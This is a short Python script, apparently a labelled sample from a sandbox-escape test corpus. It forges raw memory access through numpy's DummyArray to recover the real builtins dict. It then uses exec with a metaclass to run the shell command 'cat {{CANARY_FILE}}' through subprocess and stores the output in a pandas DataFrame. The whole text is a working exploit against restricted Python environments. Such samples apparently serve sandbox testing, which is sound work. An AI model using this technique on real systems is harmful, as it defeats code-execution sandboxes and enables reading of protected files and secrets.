# class: class_def
# technique: a whole class statement with metaclass= run by builtins['exec'] from the forged builtins dict (builtins dict forged from raw memory with numpy.lib.stride_tricks.DummyArray)
# goal: exec
import numpy as np
import pandas as pd
from numpy.lib.stride_tricks import DummyArray


def view(address, size):
    return np.asarray(DummyArray({"data": (address, False), "shape": (size,), "typestr": "|u1", "version": 3}))


def peek(address):
    return int(view(address, 8).view(np.uint64)[0])


def poke(address, value):
    view(address, 8).view(np.uint64)[0] = value


def object_at(address):
    holder = [None]
    items = peek(id(holder) + 24)
    poke(address, peek(address) + 1)
    poke(items, address)
    return holder[0]


builtin = object_at(peek(id(view) + 24))

source = """
class Meta(type):
    def @@new@@(mcls, name, bases, ns):
        import subprocess
        ns['stolen'] = subprocess.getoutput(cmd)
        return type.@@new@@(mcls, name, bases, ns)
class Table(metaclass=Meta):
    pass
out = Table.stolen
""".replace("@@", "_" * 2)
scope = {"cmd": "cat {{CANARY_FILE}}"}
builtin["exec"](source, scope)
df = pd.DataFrame({"stolen": [scope["out"]]})
